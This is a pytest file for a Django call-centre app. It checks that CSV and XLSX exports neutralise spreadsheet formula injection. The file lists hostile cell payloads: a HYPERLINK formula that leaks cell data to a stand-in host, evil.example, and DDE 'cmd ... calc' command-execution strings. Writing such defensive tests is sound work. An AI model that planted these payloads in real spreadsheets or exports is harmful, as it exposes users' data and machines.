"""Issue 18 item 7: text that agents or callers control (a not-ready reason, a hang-up cause,
a disposition) comes out of every CSV and XLSX export as text, never as a formula a
supervisor's spreadsheet would run: a cell starting with `=`, `+`, `-`, `@`, a tab or a
carriage return is prefixed with a single quote (OWASP). Numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from django.test import Client
from openpyxl import load_workbook

from icm.models import Queue
from outbound.models import Attempt, Campaign, Contact
from stats.models import NotReadyInterval
from tests.supervision.conftest import client_for, teams  # noqa: F401

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DAY = "2026-11-30"


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode())))


def _signed_in(user) -> Client:
    """A browser's session (the pages and their exports), not the API's."""
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def planted(teams):  # noqa: F811
    """One agent's not-ready time under every hostile reason."""
    site, users = teams
    start = datetime(2026, 11, 30, 9, 0, tzinfo=UTC)
    for n, reason in enumerate(FORMULAS):
        NotReadyInterval.objects.create(
            period="day", start=start, agent="ag1", reason=reason, seconds=60.0 + n
        )
    return users


def test_the_report_csv_shows_formulas_as_text(planted):
    for client, url in (
        (client_for(planted["admin"]), f"/api/stats/reports/not_ready/?date={DAY}&export=csv"),
        (_signed_in(planted["admin"]), f"/stats/reports/not_ready/?date={DAY}&format=csv"),
    ):
        rows = _csv(client.get(url).content)
        header, body = rows[0], rows[1:-1]
        reason = header.index("Reason")
        assert sorted(r[reason] for r in body) == sorted("'" + f for f in FORMULAS), url
        assert sorted(float(r[header.index("Seconds")]) for r in body) == [
            60.0 + n for n in range(6)
        ]


def test_the_report_xlsx_holds_text_not_formulas(planted):
    boss = _signed_in(planted["admin"])
    book = load_workbook(
        io.BytesIO(boss.get(f"/stats/reports/not_ready/?date={DAY}&format=xlsx").content)
    )
    sheet = book.active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # not one formula
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=4)]
    body = rows[:-1]
    assert sorted(r[1] for r in body) == sorted("'" + f for f in FORMULAS)
    seconds = sorted(r[2] for r in body)
    assert seconds == [60 + n for n in range(6)]  # numeric cells, not text
    assert all(isinstance(s, int | float) for s in seconds)
    assert rows[-1][0] == "Total" and rows[-1][2] == sum(60.0 + n for n in range(6))


def test_the_campaign_attempts_csv_escapes_what_the_switch_and_agents_wrote(planted):
    campaign = Campaign.objects.create(
        name="renewals", display_name="Renewals", queue=Queue.objects.get(name="support")
    )
    contact = Contact.objects.create(campaign=campaign, number="+4420123456")
    when = datetime(2026, 11, 30, 9, 0, tzinfo=UTC)
    for n, text in enumerate(FORMULAS):
        Attempt.objects.create(
            campaign=campaign,
            contact=contact,
            number="+4420123456",
            attempt=n + 1,
            key=f"k{n}",
            requested_at=when,
            result="answered",
            hangup_cause=text,
            disposition=text,
            agent="ag1",
            ring_seconds=-5 if n == 0 else 4.5,
        )
    rows = _csv(_signed_in(planted["admin"]).get("/campaigns/renewals/attempts.csv").content)
    header, body = rows[0], rows[1:]
    for column in ("hangup_cause", "disposition"):
        at = header.index(column)
        assert sorted(r[at] for r in body) == sorted("'" + f for f in FORMULAS), column
    # a number stays a number: E.164 numbers and (even negative) figures are not prefixed
    assert {r[header.index("number")] for r in body} == {"+4420123456"}
    assert sorted(r[header.index("ring_seconds")] for r in body)[0] == "-5.0"
